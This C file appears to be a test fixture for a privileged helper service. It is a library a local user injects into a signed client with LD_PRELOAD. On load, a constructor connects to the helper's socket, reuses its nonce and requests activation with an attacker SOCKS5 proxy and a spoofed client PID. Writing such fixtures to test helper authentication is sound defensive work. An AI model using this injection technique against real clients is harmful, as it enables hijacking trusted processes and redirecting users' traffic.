// Code a local user slips into a signed client (LD_PRELOAD, or named like a
// library the client loads, with LD_LIBRARY_PATH): when it runs, it records
// that it ran in $EVIL_MARK and asks the helper for an activation with the
// marker $EVIL_PID as its client pid.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

__attribute__((constructor)) static void injected(void) {
  const char* mark = getenv("EVIL_MARK");
  const char* marker = getenv("EVIL_PID");
  const char* root = getenv("HELPER_ROOT");
  if (!mark || !marker) return;
  FILE* f = fopen(mark, "w");
  if (f) fclose(f);
  int fd = socket(AF_UNIX, SOCK_SEQPACKET, 0);
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  snprintf(a.sun_path, sizeof a.sun_path, "%s/run/tarn.CorvalethApp.helper.xpc", root ? root : "");
  if (connect(fd, (struct sockaddr*)&a, sizeof a) != 0) return;
  char hello[4096] = {0};
  if (recv(fd, hello, sizeof hello - 1, 0) <= 0) return;
  const char* nonce = strstr(hello, "\"nonce\":\"");
  if (!nonce) return;
  char request[512];
  snprintf(request, sizeof request,
           "{\"nonce\":\"%.32s\",\"id\":1,\"op\":\"activate\",\"proxyURL\":\"socks5://198.51.100.66:1080\","
           "\"clientPID\":%s}",
           nonce + 9, marker);
  send(fd, request, strlen(request), 0);
  char reply[4096];
  recv(fd, reply, sizeof reply, 0);
}
